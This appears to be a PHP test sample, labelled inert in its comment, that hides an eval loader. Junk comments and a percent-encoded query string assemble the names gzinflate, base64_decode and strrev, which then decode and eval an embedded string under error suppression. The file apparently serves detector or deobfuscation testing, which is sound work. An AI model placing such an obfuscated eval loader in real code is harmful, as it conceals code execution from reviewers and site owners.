<?php
// test sample (inert): function names spelt as a query string, junk comments between tokens
pArSe_sTr/*a*/(
/*k1*/'0=%'//zz

.#q7
'67%'/* x */
.//zz
'7a%'#

./* x */'69%'/*k1*/
.#
'6e%'#q7

./*k1*/'66%'//zz

.#q7
'6c%'/* x */
.//zz
'61%'#

./* x */'74%'/*k1*/
.#
'65&'#q7

./*k1*/'1=%'//zz

.#q7
'62%'/* x */
.//zz
'61%'#

./* x */'73%'/*k1*/
.#
'65%'#q7

./*k1*/'36%'//zz

.#q7
'34%'/* x */
.//zz
'5f%'#

./* x */'64%'/*k1*/
.#
'65%'#q7

./*k1*/'63%'//zz

.#q7
'6f%'/* x */
.//zz
'64%'#

./* x */'65&'/*k1*/
.#
'2=%'#q7

./*k1*/'73%'//zz

.#q7
'74%'/* x */
.//zz
'72%'#

./* x */'72%'/*k1*/
.#
'65%'#q7

./*k1*/'76'//zz

,/*b*/$w//c
)/*d*/;#e
@//f
EvAl#g
(//h
$w#i
[/*j*/0]//k
(/*l*/$w/*m*/[ //n
1]#o
(#p
$w//q
[/*r*/2]/*s*/('AYwtV1kTocVyoc1SMjcyvsMySVbSI3CzOhSUN5kzMh0LQdFyO30S'))));
